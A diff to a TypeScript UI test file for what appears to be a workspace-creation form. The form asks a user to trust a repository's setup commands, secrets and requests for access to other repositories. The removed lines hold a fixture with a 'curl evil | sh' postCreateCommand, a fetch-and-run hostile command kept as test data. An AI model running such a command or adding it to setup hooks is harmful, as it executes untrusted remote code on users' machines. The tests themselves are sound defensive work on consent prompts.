@@ -17,15 +17,9 @@ const wants = {
   repositoryPermission: 'write' as const,
   secretNames: ['API_TOKEN', 'NPM_TOKEN'],
   dotfilesRepositoryUrl: 'https://github.com/ada/dotfiles',
-  configurationHash: 'a'.repeat(64),
-  trust: { isTrusted: true, reason: 'decision' },
-  wants: {
-    image: 'debian',
-    commands: [{ hook: 'postCreateCommand', text: 'curl <b>evil</b> | sh' }],
-    repositoryPermission: 'write',
-    secretNames: [],
-    dotfilesRepositoryUrl: 'https://github.com/ada/dotfiles',
-  },
+  repositories: [],
+  listHash: null,
+  isGiven: null,
 }
 const trusted = { isTrusted: true, reason: 'decision' as const }
 const ofFork = aResolution({
@@ -107,6 +101,48 @@ test('a repository that nobody has decided about is trusted as it was shown, or 
   fireEvent.click(button)
   await expect.poll(other.sent).toHaveLength(1)
   expect(other.sent()[0]?.input).not.toHaveProperty('trustedConfigurationHash')
+})
+
+test('other repositories it asks for are agreed to with it, or left out', async () => {
+  const listHash = 'd'.repeat(64)
+  const asking = {
+    ...wants,
+    repositories: [
+      {
+        path: 'ada/library',
+        permissions: { contents: 'read' as const },
+        isRefused: false,
+        reason: null,
+      },
+      {
+        path: 'eve/keys',
+        permissions: { contents: 'write' as const },
+        isRefused: true,
+        reason: 'It is not one of ada’s.',
+      },
+    ],
+    listHash,
+  }
+  const answers = { 'repositories.preview': () => aPreview({ wants: asking }) }
+  const { sent } = openForm('ada/engine', answers)
+  const trust = await theButton('Trust and create')
+  const others = within(screen.getByRole('group', { name: 'Other repositories it asks for' }))
+  expect(others.getByText('ada/library: contents (read)')).toBeDefined()
+  expect(others.getByText(/Refused. It is not one of ada’s/)).toBeDefined()
+  await settled()
+  fireEvent.click(trust)
+  await expect.poll(sent).toHaveLength(1)
+  expect(sent()[0]?.input).toMatchObject({ otherRepositories: { listHash, isGiven: true } })
+  cleanup()
+  const without = openForm('ada/engine', answers)
+  const again = await theButton('Trust and create')
+  fireEvent.click(screen.getByRole('checkbox', { name: /^Continue without them/ }))
+  await settled()
+  fireEvent.click(again)
+  await expect.poll(without.sent).toHaveLength(1)
+  expect(without.sent()[0]?.input).toMatchObject({
+    otherRepositories: { listHash, isGiven: false },
+  })
 })
 
 test('Enter in a field trusts nothing: it leads to what there is to decide (S-28)', async () => {
